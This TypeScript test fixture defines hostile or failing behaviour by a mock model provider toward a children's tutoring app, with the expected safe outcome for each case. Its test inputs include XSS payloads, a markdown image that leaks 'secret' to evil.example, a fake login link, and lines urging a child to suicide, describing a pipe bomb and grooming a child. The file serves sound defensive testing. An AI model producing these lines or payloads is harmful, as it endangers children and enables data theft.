import { setTimeout as pause } from 'node:timers/promises'
import { eventStream, type Play } from './model-peer.ts'
import { done, frame, type Script, speaking } from './openai-endpoint.ts'

/**
 * How an answer ends: with the built-in tutor's words from the start, broken off, withheld, cut, replaced by
 * the built-in tutor's words, or whole.
 */
export type End = 'built_in' | 'broken' | 'withheld' | 'cut' | 'replaced' | 'whole'

/** A manner in which a provider fails or is hostile, and what has to come of it. */
export type Manner = {
  readonly name: string
  readonly play: Play
  readonly end: End
  /** How its call is written down. */
  readonly outcome: string
  /** What is shown, to the letter. */
  readonly text?: string
  /** What is never shown. */
  readonly never?: RegExp
  /** What the student writes, where it matters, about an open question whose key is x = 11. */
  readonly about_question?: string
}

const text = (...pieces: string[]) => pieces.map((content) => frame({ content })).join('')
const ended = frame({}, 'stop') + done

/** Sends these bytes as a stream of events, and ends it. */
const sends =
  (...frames: string[]): Play =>
  (response) => {
    eventStream(response)
    response.end(frames.join(''))
  }

/** Sends these bytes, and then is silent for ever. */
const hangs =
  (...frames: string[]): Play =>
  (response) => {
    eventStream(response)
    for (const each of frames) response.write(each)
  }

const answers =
  (status: number, type: string, body: string, headers: object = {}): Play =>
  (response) => {
    response.writeHead(status, { 'content-type': type, ...headers })
    response.end(body)
  }

const says = (...pieces: string[]): Play => sends(text(...pieces), ended)
const letters = (sentence: string): Play => says(...sentence)
const plays = (script: Script): Play => speaking(script)

const call = { index: 0, id: 'c1', type: 'function', function: { name: 'find', arguments: '{}' } }
const toolCall = frame({ tool_calls: [call] })
const json = 'application/json'
const refusal = JSON.stringify({ error: { message: 'No', code: 1 } })

const sentence = 'Plants grow in the light. '

/** Before its first word: the built-in tutor answers. */
const wordless: readonly (readonly [string, Play, string?])[] = [
  ['429', answers(429, json, refusal)],
  ['429 that asks for a long wait', answers(429, json, refusal, { 'retry-after': '3600' })],
  ['500', answers(500, json, refusal)],
  ['503 with a page', answers(503, 'text/html', '<h1>Sorry</h1>')],
  ['401', answers(401, json, refusal)],
  ['404', answers(404, json, refusal)],
  ['a page instead of a stream', answers(200, 'text/html', '<script>alert(1)</script>')],
  ['JSON instead of a stream', answers(200, json, '{"choices":[{"message":{"content":"Hi"}}]}')],
  ['a redirect', answers(307, 'text/plain', '', { location: 'http://127.0.0.1:9/v1' })],
  [
    'garbage that says it is packed',
    answers(200, 'text/event-stream', 'not packed', { 'content-encoding': 'gzip' }),
  ],
  ['silence before its headers', () => {}],
  ['silence before its words', hangs(': open\n\n')],
  ['a connection that is closed at once', (response) => void response.destroy()],
  ['bad JSON first', sends('data: {"choices": [\n\n', done)],
  ['an error frame first', sends(`data: ${refusal}\n\n`)],
  ['[DONE] alone', sends(done)],
  ['nothing', sends()],
  ['no content', sends(frame({ content: null }), frame({ content: '' }), ended)],
  ['its filter', sends(frame({}, 'content_filter'), done), 'refused'],
  ['a tool', sends(toolCall, frame({}, 'tool_calls'), done)],
  ['thoughts alone', says('<think>The child is slow.', ' Very.')],
  ['reasoning alone', sends(frame({ reasoning_content: 'The child is slow.' }), ended)],
  ['ten million letters in one frame', says(sentence.repeat(400_000))],
  [
    'five million letters without a frame',
    (response) => {
      eventStream(response)
      response.end('x'.repeat(5_000_000))
    },
  ],
]

const half = 'Plants need '

/** After its first word it fails: what it said is kept, and nobody goes on in its voice. */
const broken: readonly (readonly [string, Play, End?])[] = [
  ['is cut', plays({ pieces: [half], after: 'cut' })],
  ['is silent', hangs(text(half))],
  ['ends without saying so', sends(text(half))],
  ['sends bad JSON', sends(text(half), 'data: {"choices"\n\n', ended)],
  ['sends an error', sends(text(half), `data: ${refusal}\n\n`)],
  ['reaches its own limit', sends(text(half), frame({}, 'length'), done), 'cut'],
  ['is filtered', sends(text(half), frame({}, 'content_filter'), done), 'cut'],
  ['calls a tool', sends(text(half), toolCall, frame({}, 'tool_calls'), done), 'cut'],
]

/** Words that no child is shown. */
const unfit: readonly (readonly [string, Play, RegExp])[] = [
  [
    'tells a child to kill themselves',
    says('You should kill yourself, nobody would care.'),
    /kill|care/,
  ],
  ['tells it after good words', says('Light. ', 'Well, just kill your', 'self.'), /kill/],
  [
    'tells how to build a bomb',
    says('To make a pipe bomb take a pipe and fill it with powder.'),
    /bomb|powder/,
  ],
  ['asks for nudes letter by letter', letters('Sure, send me nudes please.'), /nude/],
  [
    'asks for nudes in one piece of many letters',
    says(`Sure, send me nudes. ${'Light is good. '.repeat(60)}`),
    /nude/,
  ],
  ['asks for them far apart', says('Send me ', '<b></b>', 'nudes. ', 'Good.'), /nude/],
  ['asks to meet', says('Light. ', 'Meet me alone after school.'), /meet/i],
  ['asks for a secret', says('This is our little secret.'), /secret/],
]

/** Words that are changed before they are shown. */
const harmless: readonly (readonly [string, Play, string])[] = [
  [
    'an e-mail address and a number',
    says('Write to bob@evil.example or ring 07700 900123. ', 'Yes.'),
    'Write to [e-mail] or ring [phone]. Yes.',
  ],
  [
    'a foreign picture',
    says('![a leaf](https://evil.example/p.png?q=secret) Look.'),
    'a leaf Look.',
  ],
  ['a script', says('<script>alert(1)</script>Light.'), 'Light.'],
  ['a script as a link', says('[Light](javascript:alert(1)).'), 'Light.'],
  ['a foreign link', says('See [notes](https://evil.example/login).'), 'See notes (evil.example).'],
  ['a thought', letters('<think>The child is slow.</think>Light.'), 'Light.'],
  ['a thought by another name', says('<REASONING>Hm</REASONING>Light.'), 'Light.'],
]

/** Words that may look like a fault and are none. */
const odd: readonly (readonly [string, Play, string])[] = [
  ['LaTeX that is broken', says('$\\frac{1}{ is a half.'), '$\\frac{1}{ is a half.'],
  ['two prices', says('It costs $5 and $10.'), 'It costs $5 and $10.'],
  [
    'the same id for everything',
    sends(frame({ content: 'a' }), frame({ content: 'b' }), frame({ content: '.' }), ended),
    'ab.',
  ],
  ['two ends', sends(text('Light.'), frame({}, 'stop'), frame({}, 'stop'), done), 'Light.'],
  ['words after its end', sends(text('Light.'), ended, text(' More.')), 'Light. More.'],
  [
    'content that is null between words',
    sends(text('Li'), frame({ content: null }), text('ght.'), ended),
    'Light.',
  ],
  [
    'a wrong type of content',
    (response) => {
      response.writeHead(200, { 'content-type': 'text/plain' })
      response.end(text('Light.') + ended)
    },
    'Light.',
  ],
  [
    'comments and blank lines',
    sends(': hello\n\n\n\n', text('Light.'), ': bye\n\n', ended),
    'Light.',
  ],
  [
    'one letter at a time',
    async (response) => {
      eventStream(response)
      for (const letter of 'Light.') {
        response.write(frame({ content: letter }))
        await pause(dripMs)
      }
      response.end(ended)
    },
    'Light.',
  ],
  ['half a letter', says('A leaf \ud83c', '\udf31.'), 'A leaf \ud83c\udf31.'],
]

const dripMs = 30

const endless: readonly (readonly [string, Play])[] = [
  ['a million letters in one piece', says(sentence.repeat(40_000))],
  [
    'a million letters in many pieces',
    says(...Array.from({ length: 4_000 }, () => sentence.repeat(10))),
  ],
]

/** What tells the key of an open question, or judges an answer to it. */
const telling: readonly (readonly [string, Play, RegExp, string])[] = [
  ['tells the key', says('Think of both sides. ', 'The answer is x = 11.'), /11/, 'Tell me!'],
  ['tells it letter by letter', letters('So the answer is $x=11$.'), /11/, 'Tell me!'],
  ['judges an answer', says('Correct! ', 'Well done.'), /correct|well done/i, 'x = 11'],
]

/** Every manner, each once. */
export const manners: readonly Manner[] = [
  ...wordless.map(([name, play, outcome = 'failed_over']) => ({
    ...{ name: `before its words: ${name}`, play, outcome },
    end: 'built_in' as const,
    never: /slow|alert/,
  })),
  ...broken.map(([name, play, end = 'broken' as const]) => ({
    ...{ name: `in the middle it ${name}`, play, end, text: half.trimEnd() },
    outcome: name === 'is filtered' ? 'refused' : 'cut',
  })),
  ...unfit.map(([name, play, never]) => ({
    ...{ name: `it ${name}`, play, never, end: 'withheld' as const, outcome: 'withheld' },
  })),
  ...telling.map(([name, play, never, about_question]) => ({
    ...{ name: `it ${name}`, play, never, about_question },
    ...{ end: 'replaced' as const, outcome: 'telling' },
  })),
  ...[...harmless, ...odd].map(([name, play, shown]) => ({
    ...{ name: `it sends ${name}`, play, text: shown, never: /evil\.example\/|alert|slow|@/ },
    ...{ end: 'whole' as const, outcome: 'completed' },
  })),
  ...endless.map(([name, play]) => ({
    ...{ name: `it sends ${name}`, play, end: 'cut' as const, outcome: 'cut' },
  })),
]
